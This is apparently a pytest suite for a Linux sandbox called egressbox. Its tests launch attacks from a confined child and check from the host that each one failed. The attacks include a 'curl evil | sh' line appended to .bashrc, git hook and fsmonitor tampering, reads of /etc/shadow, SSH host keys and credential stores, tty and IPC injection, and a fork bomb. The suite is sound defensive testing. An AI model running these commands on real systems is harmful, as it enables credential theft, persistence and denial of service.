"""The child's world is built from grants: attacks from a confined child, judged from the host.

Each test makes an attack a hostile child would make (metadata changes outside the roots,
rewriting state the host trusts later, local channels beside the proxy, secrets the presets
used to grant) and then looks at the host: the file's mode, times and xattrs, the listener's
log, the IPC object, the next run's report. Nothing is taken from the child's own word alone.
Every test runs as the invoking user (root here) and as an unprivileged user. Nothing leaves
loopback; every wait is bounded.
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import hashlib
import os
import select
import shutil
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from unix_listener import UnixListener
from unprivileged import BASE_DIR, Actor

pytestmark = [
    pytest.mark.skipif(sys.platform != "linux", reason="egressbox run confines on Linux only"),
    pytest.mark.timeout(900),
]

RUN_TIMEOUT = 120.0
LISTEN_WAIT = 3.0
SECRET = "egressbox-world-secret-7f3a"
IPC_CREAT = 0o1000
IPC_RMID = 0
IPC_STAT = 2


@dataclass
class World:
    """One actor's workspace (also its HOME), and a directory outside every root."""

    actor: Actor
    workspace: Path
    outside: Path

    def run(self, argv: list[str], **env: str) -> subprocess.CompletedProcess[str]:
        environment = self.actor.base_env(self.workspace) | env
        command, environment = self.actor.command(argv, environment)
        return subprocess.run(
            command,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            env=environment,
            cwd=self.workspace,
            timeout=RUN_TIMEOUT,
            check=False,
        )

    def egressbox(self, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
        """`egressbox run --quiet --write-root WORKSPACE ARGS` (the workspace is also HOME)."""
        return self.run(
            [*self.actor.egressbox, "run", "--quiet", "--write-root", str(self.workspace), *args],
            **env,
        )

    def python(self, code: str, *args: str) -> subprocess.CompletedProcess[str]:
        """A Python attack inside the default profile; its output is only a hint."""
        return self.egressbox(*args, "--", self.actor.python, "-c", textwrap.dedent(code))


@pytest.fixture
def world(actor: Actor) -> Iterator[World]:
    workspace = actor.make_dir("/tmp", "egressbox-world-ws-")
    BASE_DIR.mkdir(mode=0o755, parents=True, exist_ok=True)
    outside = actor.make_dir(BASE_DIR, "world-outside-")
    try:
        yield World(actor, workspace, outside)
    finally:
        for path in (workspace, outside):
            shutil.rmtree(path, ignore_errors=True)


def _explain(done: subprocess.CompletedProcess[str]) -> str:
    return f"exit {done.returncode}\nstdout: {done.stdout[-2000:]}\nstderr: {done.stderr[-3000:]}"


def _owned_file(world: World, path: Path, text: str = "host\n", mode: int = 0o644) -> Path:
    path.write_text(text, encoding="utf-8")
    world.actor.own(path, mode)
    return path


def _snapshot(path: Path) -> tuple[int, int, int, int, int, list[str], str]:
    st = os.lstat(path)
    names = sorted(os.listxattr(path, follow_symlinks=False)) if path.exists() else []
    digest = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else ""
    return st.st_mode, st.st_uid, st.st_gid, st.st_mtime_ns, st.st_ctime_ns, names, digest


# -- 1. metadata outside every root -------------------------------------------------------

METADATA_ATTACK = """
    import os, sys
    path = sys.argv[1]
    for name, attack in (
        ("chmod", lambda: os.chmod(path, 0o4777)),
        ("utime", lambda: os.utime(path, (0, 0))),
        ("setxattr", lambda: os.setxattr(path, "user.egressbox", b"1")),
        ("chown", lambda: os.chown(path, -1, os.getgid())),
    ):
        try:
            attack()
            print(name, "done")
        except OSError as exc:
            print(name, exc.strerror)
"""


@pytest.mark.parametrize("granted", ["absent", "read_root"])
def test_metadata_of_files_outside_the_write_roots_never_changes(
    world: World, granted: str
) -> None:
    target = _owned_file(world, world.outside / "file")
    before = _snapshot(target)
    extra = ["--read-root", str(world.outside)] if granted == "read_root" else []
    code = METADATA_ATTACK.replace("sys.argv[1]", repr(str(target)))
    done = world.python(code, *extra)
    assert _snapshot(target) == before, _explain(done)
    assert "done" not in done.stdout, _explain(done)


# -- 2. state the host trusts later -------------------------------------------------------


def test_egressbox_caches_stay_the_hosts(world: World) -> None:
    # The workspace is HOME; egressbox's state (the probe cache) lives where no plan grants:
    # /var/lib/egressbox for root, the test user's own state directory otherwise
    # (runner/own_state.py). The child aims at it by its real path.
    first = world.egressbox("--", "true")
    assert first.returncode == 0, _explain(first)
    cache = world.actor.state_dir() if world.actor.runuser else Path("/var/lib/egressbox")
    files = sorted(p for p in cache.iterdir() if p.is_file())
    assert files, "the first run cached nothing"
    before = {p: _snapshot(p) for p in files}
    attack = f"""
        import os
        for name in os.listdir({str(cache)!r}):
            path = os.path.join({str(cache)!r}, name)
            for step in (
                lambda: open(path, "w").write('{{"status": "full", "program": ""}}'),
                lambda: os.rename(path, path + ".x"),
                lambda: os.unlink(path),
            ):
                try:
                    step()
                    print("changed", name)
                except OSError as exc:
                    print(name, exc.strerror)
        try:
            open(os.path.join({str(cache)!r}, "new.json"), "w").write("{{}}")
            print("created")
        except OSError as exc:
            print("create", exc.strerror)
    """
    done = world.python(attack)
    assert {p: _snapshot(p) for p in files} == before, _explain(done)
    assert sorted(p for p in cache.iterdir() if p.is_file()) == files
    report = world.egressbox("--report", "--", "true")
    assert report.returncode == 0, _explain(report)
    assert "enforcement: seccomp: full" in report.stderr, _explain(report)
    assert "enforcement: network_boundary: full" in report.stderr, _explain(report)


def test_policy_file_and_audit_log_in_the_workspace_are_read_only(world: World) -> None:
    policy = _owned_file(world, world.workspace / "policy.toml", "[egress]\nallow = []\n")
    log = world.workspace / "audit.jsonl"
    forged = '{"ts": "2026-01-01T00:00:00Z", "protocol": "connect", "host": "evil.example"}\n'
    attack = f"""
        for path, text in (({str(policy)!r}, '[egress]\\nallow = ["*.example.com:443"]\\n'),
                           ({str(log)!r}, {forged!r})):
            try:
                open(path, "a").write(text)
                print("wrote", path)
            except OSError as exc:
                print(path, exc.strerror)
    """
    done = world.python(attack, "--policy", str(policy), "--audit-log", str(log))
    assert policy.read_text(encoding="utf-8") == "[egress]\nallow = []\n", _explain(done)
    assert "evil.example" not in log.read_text(encoding="utf-8"), _explain(done)


def test_a_symlink_left_in_the_scratch_space_leads_nowhere(world: World) -> None:
    plant = f"""
        import os, shutil
        shutil.rmtree(".egressbox", ignore_errors=True)
        os.symlink({str(world.outside)!r}, ".egressbox")
    """
    # Written live (direct): staged, the link would be the layer's, never the host's.
    done = world.python(plant, "--workspace", "direct")
    assert done.returncode == 0, _explain(done)
    assert (world.workspace / ".egressbox").is_symlink(), "the child could not plant the link"
    again = world.egressbox("--", "true")
    assert again.returncode == 0, _explain(again)
    assert list(world.outside.iterdir()) == [], "set-up followed the planted link"


def test_host_trusted_files_in_the_workspace_are_read_only(world: World) -> None:
    git = world.workspace / ".git"
    (git / "hooks").mkdir(parents=True)
    world.actor.own(git)
    world.actor.own(git / "hooks")
    config = _owned_file(world, git / "config", "[core]\n")
    rc = _owned_file(world, world.workspace / ".bashrc", "# rc\n")
    before = {p: _snapshot(p) for p in (config, rc, git / "hooks")}
    attack = f"""
        import os
        for path, text in (({str(config)!r}, "[core]\\n\\tfsmonitor = /tmp/x\\n"),
                           ({str(rc)!r}, "curl evil | sh\\n"),
                           ({str(git / "hooks" / "pre-commit")!r}, "#!/bin/sh\\n")):
            try:
                open(path, "a").write(text)
                print("wrote", path)
            except OSError as exc:
                print(path, exc.strerror)
        for path in ({str(config)!r}, {str(rc)!r}):
            try:
                os.rename(path, path + ".moved")
                print("moved", path)
            except OSError as exc:
                print(path, exc.strerror)
        open("ordinary.txt", "w").write("fine")
    """
    done = world.python(attack)
    assert done.returncode == 0, _explain(done)
    assert {p: _snapshot(p) for p in before} == before, _explain(done)
    assert not (git / "hooks" / "pre-commit").exists()
    assert (world.workspace / "ordinary.txt").read_text(encoding="utf-8") == "fine"


def test_a_trusted_file_the_command_creates_is_held_or_moved_aside(world: World) -> None:
    # Staged (the default): held back at the gate, the command's own exit code kept.
    done = world.egressbox("--", "sh", "-c", "echo 'echo hi' > .envrc")
    assert done.returncode == 0, _explain(done)
    assert f"held back: {world.workspace / '.envrc'} (direnv)" in done.stderr, _explain(done)
    assert not (world.workspace / ".envrc").exists()
    # Direct: written live, then moved aside after the run, loudly, with a code of its own.
    done = world.egressbox("--workspace", "direct", "--", "sh", "-c", "echo 'echo hi' > .envrc")
    assert done.returncode == 125, _explain(done)  # exitcodes.EXIT_TAMPERED
    assert f"the command made {world.workspace / '.envrc'}" in done.stderr, _explain(done)
    assert not (world.workspace / ".envrc").exists()


def test_the_home_directory_as_workspace_needs_saying(world: World) -> None:
    command = [*world.actor.egressbox, "run", "--quiet", "--", "true"]
    done = world.run(command)  # cwd is the workspace, which is also HOME
    assert done.returncode == 122, _explain(done)  # EXIT_CWD_UNAVAILABLE
    assert "your whole home directory" in done.stderr
    assert f"--write-root {world.workspace}" in done.stderr


def test_a_working_directory_outside_every_root_is_refused(world: World) -> None:
    inner = world.workspace / "sub"
    inner.mkdir()
    world.actor.own(inner)
    done = world.egressbox("--write-root", str(world.outside), "--", "true")
    assert done.returncode == 0, _explain(done)  # cwd is the workspace, a root
    argv = [*world.actor.egressbox, "run", "--write-root", str(world.outside), "--", "true"]
    command, env = world.actor.command(argv, world.actor.base_env("/nonexistent"))
    refused = subprocess.run(
        command, env=env, cwd=inner, capture_output=True, text=True, timeout=60, check=False
    )
    assert refused.returncode == 122, _explain(refused)  # EXIT_CWD_UNAVAILABLE
    assert f"--read-root {inner}" in refused.stderr, _explain(refused)


# -- 3. local channels beside the proxy --------------------------------------------------


CONNECT_UNIX = """
    import socket, sys
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(sys.argv[1])
        print("connected")
    except OSError as exc:
        print(exc.strerror)
"""


def test_host_unix_sockets_exist_only_under_a_socket_root(world: World) -> None:
    path = world.outside / "service.sock"
    listener = UnixListener(path)
    try:
        code = CONNECT_UNIX.replace("sys.argv[1]", repr(str(path)))
        refused = world.python(code)
        granted = world.python(code, "--unix-socket-root", str(world.outside))
    finally:
        accepted = listener.close()
    assert accepted == 1, _explain(refused) + _explain(granted)
    assert "connected" in granted.stdout, _explain(granted)


class _Ipc:
    """SysV message queues and shared memory through libc (the stdlib has neither)."""

    def __init__(self) -> None:
        self.libc = ctypes.CDLL(None, use_errno=True)

    def msgget(self, key: int, flags: int) -> int:
        return int(self.libc.msgget(ctypes.c_int(key), ctypes.c_int(flags)))

    def queued(self, qid: int) -> int:
        buf = ctypes.create_string_buffer(256)  # struct msqid_ds
        if self.libc.msgctl(qid, IPC_STAT, buf) != 0:
            raise OSError(ctypes.get_errno(), "msgctl")
        # msg_qnum follows ipc_perm (48) and three times (24) and __msg_cbytes (8) on x86_64.
        return int.from_bytes(buf.raw[80:88], "little")

    def remove(self, qid: int) -> None:
        self.libc.msgctl(qid, IPC_RMID, None)


def test_host_ipc_objects_are_out_of_reach(world: World) -> None:
    if os.uname().machine != "x86_64":
        pytest.skip("the msqid_ds layout read here is x86_64's")
    ipc = _Ipc()
    key = int.from_bytes(os.urandom(3), "little") + 0x100000
    qid = ipc.msgget(key, IPC_CREAT | 0o666)
    assert qid >= 0, os.strerror(ctypes.get_errno())
    attack = f"""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        qid = libc.msgget({key}, 0o666)
        if qid < 0:
            print("msgget", ctypes.get_errno())
        else:
            msg = ctypes.create_string_buffer(b"\\x01\\0\\0\\0\\0\\0\\0\\0hello")
            print("msgsnd", libc.msgsnd(qid, msg, 5, 0o4000))
    """
    try:
        done = world.python(attack)
        assert ipc.queued(qid) == 0, _explain(done)
        assert f"msgget {errno.ENOENT}" in done.stdout, _explain(done)
    finally:
        ipc.remove(qid)


def test_the_hosts_terminals_do_not_exist_for_the_child(world: World) -> None:
    master, slave = os.openpty()
    try:
        name = os.ttyname(slave)
        os.chmod(name, 0o666)  # plain permissions would let any user in
        attack = f"""
            import os
            try:
                fd = os.open({name!r}, os.O_RDWR | os.O_NOCTTY)
                os.write(fd, b"injected")
                print("opened")
            except OSError as exc:
                print(exc.strerror)
        """
        done = world.python(attack)
        readable, _, _ = select.select([master], [], [], 0.5)
        got = os.read(master, 4096) if readable else b""
        assert b"injected" not in got, _explain(done)
        assert "opened" not in done.stdout, _explain(done)
    finally:
        os.close(master)
        os.close(slave)


# -- 4. secrets the presets used to grant -------------------------------------------------


def test_credential_stores_under_granted_presets_stay_unreadable(world: World) -> None:
    home = world.workspace
    stores = [
        home / ".cargo" / "credentials.toml",
        home / ".config" / "git" / "credentials",
        home / ".local" / "share" / "uv" / "credentials" / "credentials.toml",
    ]
    for path in stores:
        path.parent.mkdir(parents=True, exist_ok=True)
        _owned_file(world, path, SECRET + "\n", 0o600)
    for directory in {p for s in stores for p in s.parents if home in p.parents}:
        world.actor.own(directory)
    paths = " ".join(str(p) for p in stores)
    done = world.egressbox("--", "sh", "-c", f"cat {paths}; cat /etc/shadow /etc/ssh/*_key")
    assert SECRET not in done.stdout + done.stderr, _explain(done)
    for secret_file in (Path("/etc/shadow"), *Path("/etc/ssh").glob("ssh_host_*_key")):
        with contextlib.suppress(OSError):
            content = secret_file.read_text(encoding="utf-8", errors="replace").strip()
            if content:
                assert content.splitlines()[0] not in done.stdout, _explain(done)


# -- 5. the limits and the report ---------------------------------------------------------


def test_a_fork_bomb_stops_at_max_processes(world: World) -> None:
    policy = _owned_file(world, world.workspace / "p.toml", "[process]\nmax_processes = 400\n")
    bomb = """
        import os, time
        n = 0
        try:
            for _ in range(2000):
                if os.fork() == 0:
                    time.sleep(30)
                    os._exit(0)
                n += 1
        except OSError:
            pass
        print("forked", n)
    """
    done = world.python(bomb, "--policy", str(policy), "--timeout", "60")
    counts = [int(w) for line in done.stdout.splitlines() for w in line.split()[1:2]]
    assert counts and counts[0] < 400, _explain(done)


def test_the_report_is_what_the_launcher_applied(world: World) -> None:
    done = world.egressbox("--report", "--", "true")
    assert done.returncode == 0, _explain(done)
    rows = [line for line in done.stderr.splitlines() if "enforcement: " in line]
    assert any("mount_namespace: full (constructed root" in row for row in rows), rows
    assert any("landlock_fs: full (ABI" in row for row in rows), rows
